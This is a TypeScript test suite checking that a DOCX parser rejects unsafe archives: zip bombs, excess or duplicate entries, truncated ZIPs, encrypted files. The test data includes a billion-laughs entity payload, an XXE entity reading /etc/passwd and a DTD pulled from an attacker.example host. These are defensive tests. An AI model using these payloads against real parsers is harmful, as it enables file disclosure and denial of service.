import fs from 'node:fs';
import path from 'node:path';
import { parseDocx } from '../../electron/ingest/docx';
import { ARCHIVE_LIMITS } from '../../electron/ingest/docx-archive';
import { FIXTURES } from '../support/temp';
import {
  buildDocx,
  declareEntries,
  deflatedZeros,
  documentXml,
  docxParts,
  para,
  patchEntry,
  repeatCentralHeader,
  withDeflatedEntry,
  zipOf,
} from './support/docx-zip';

const GIB_OF_ZEROS = deflatedZeros(1024);

/**
 * Rejects with `code` (and a detail matching `detail`) without the heap or buffers ballooning, and
 * quickly: unpacking any of these would take far longer. The bound is loose (about 0.1–0.5 s when
 * the machine is idle) because a loaded 2-core CI machine measured 1.16 s; memory is the sharp test.
 */
async function expectRejected(bytes: Uint8Array, code: string, detail: RegExp): Promise<void> {
  const before = process.memoryUsage();
  const started = performance.now();
  const err: unknown = await parseDocx(bytes, 'evil.docx').then(
    () => new Error('parsed'),
    (e: unknown) => e,
  );
  expect(performance.now() - started).toBeLessThan(3000);
  expect(err).toMatchObject({ code, params: { file: 'evil.docx', detail: expect.stringMatching(detail) } });
  const after = process.memoryUsage();
  expect(after.arrayBuffers - before.arrayBuffers).toBeLessThan(64 << 20);
  expect(after.heapUsed - before.heapUsed).toBeLessThan(64 << 20);
}

/** A valid package's parts, for archives that add one bad thing to them. */
const validParts = () => docxParts(para('正文'));

describe('parseDocx refuses unsafe archives before unpacking them', () => {
  test('zip bomb, declared: uncompressed sizes summing past the limit', async () => {
    const zip = await zipOf({ ...validParts(), 'word/media/image1.png': 'x' });
    const bomb = patchEntry(zip, 'word/media/image1.png', { size: ARCHIVE_LIMITS.totalBytes + 1 });
    await expectRejected(bomb, 'unsafe_file', /uncompressed size over/);
  });

  test('zip bomb, declared honestly: 300 MiB of zeros in 300 KB is over the compression ratio', async () => {
    const bomb = await withDeflatedEntry(validParts(), 'word/media/image1.png', deflatedZeros(300), 300 << 20);
    await expectRejected(bomb, 'unsafe_file', /compression ratio/);
  });

  test('zip bomb, lying: an entry declared at 40 KB that inflates to 1 GiB stops at its declared size', async () => {
    for (const name of ['word/document.xml', 'word/media/image1.png']) {
      const bomb = await withDeflatedEntry(validParts(), name, GIB_OF_ZEROS, 40_000);
      await expectRejected(bomb, 'unsafe_file', /inflates beyond its declared size/);
    }
  });

  test('too many entries: as declared in the end record, and as found when the record lies low', async () => {
    const zip = await buildDocx(para('正文'));
    await expectRejected(declareEntries(zip, 65_000), 'unsafe_file', /65000 entries declared/);
    await expectRejected(
      repeatCentralHeader(zip, ARCHIVE_LIMITS.entries + 1),
      'unsafe_file',
      /more than 10000 entries/,
    );
  });

  test('DTDs (billion laughs, XXE) in any XML part, in UTF-8 or UTF-16', async () => {
    const laughs =
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
    const billion = documentXml(para('&lol3;')).replace(/^<\?xml[^>]*\?>/, laughs);
    await expectRejected(
      await zipOf({ ...validParts(), 'word/document.xml': billion }),
      'unsafe_file',
      /DOCTYPE or ENTITY declaration in word\/document\.xml/,
    );

    const xxe = documentXml(para('&xxe;')).replace(
      /^<\?xml[^>]*\?>/,
      '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    );
    const utf16 = Buffer.from(`\ufeff${xxe}`, 'utf16le');
    await expectRejected(
      await zipOf({ ...validParts(), 'word/document.xml': utf16 }),
      'unsafe_file',
      /DOCTYPE or ENTITY/,
    );

    const header = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><w:hdr/>';
    await expectRejected(
      await buildDocx(para('正文'), { 'word/header1.xml': header }),
      'unsafe_file',
      /DOCTYPE or ENTITY declaration in word\/header1\.xml/,
    );
  });

  test('a DOCTYPE in an SVG image is not XML we read, and imports', async () => {
    const svg =
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>';
    const doc = await parseDocx(await buildDocx(para('正文'), { 'word/media/image1.svg': svg }), 'svg.docx');
    expect(doc.text).toBe('正文');
  });

  test('two entries that name the same part', async () => {
    const zip = await zipOf({ ...validParts(), 'word/documenx.xml': documentXml(para('另一个')) });
    await expectRejected(
      patchEntry(zip, 'word/documenx.xml', { name: 'word/document.xml' }),
      'unsafe_file',
      /duplicate entry word\/document\.xml/,
    );
  });

  test('a ZIP that is not a Word document (an .xlsx renamed) is corrupt_file', async () => {
    const xlsx = await zipOf({
      '[Content_Types].xml':
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      '_rels/.rels':
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
      'xl/workbook.xml':
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    });
    await expectRejected(
      xlsx,
      'corrupt_file',
      /not a Word document \(application\/vnd\.openxmlformats-officedocument\.spreadsheetml/,
    );
    await expectRejected(
      await zipOf({ 'readme.txt': 'hello' }),
      'corrupt_file',
      /not a Word document \(no word\/document\.xml\)/,
    );
  });

  test('bytes that only start like a ZIP are corrupt_file', async () => {
    const random = Buffer.concat([
      Buffer.from([0x50, 0x4b, 0x03, 0x04]),
      Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)),
    ]);
    await expectRejected(random, 'corrupt_file', /no ZIP end record/);
    const real = fs.readFileSync(path.join(FIXTURES, 'docx', 'poitl__payment.docx'));
    await expectRejected(real.subarray(0, real.length - 30), 'corrupt_file', /no ZIP end record/);
    // The end record intact, the entries' data gone.
    await expectRejected(
      Buffer.concat([real.subarray(0, 64), real.subarray(real.length - 4000)]),
      'corrupt_file',
      /.+/,
    );
  });

  test('an encrypted .docx (OLE2 with EncryptionInfo and EncryptedPackage) and other OLE2 files are named and refused', async () => {
    const ole2 = (streams: string[]) => {
      const bytes = Buffer.alloc(512 + 128 * 4);
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes);
      streams.forEach((name, i) => {
        const at = 512 + 128 * i;
        bytes.write(name, at, 'utf16le');
        bytes.writeUInt16LE((name.length + 1) * 2, at + 64);
        bytes[at + 66] = 2;
      });
      return bytes;
    };
    await expect(parseDocx(ole2(['EncryptionInfo', 'EncryptedPackage']), 'secret.docx')).rejects.toMatchObject({
      code: 'unsupported_type',
      params: { file: 'secret.docx', type: 'encrypted Word document' },
    });
    await expect(parseDocx(ole2(['WordDocument', '1Table']), 'old.docx')).rejects.toMatchObject({
      code: 'unsupported_type',
      params: { file: 'old.docx', type: 'OLE2 (legacy .doc)' },
    });
  });
});
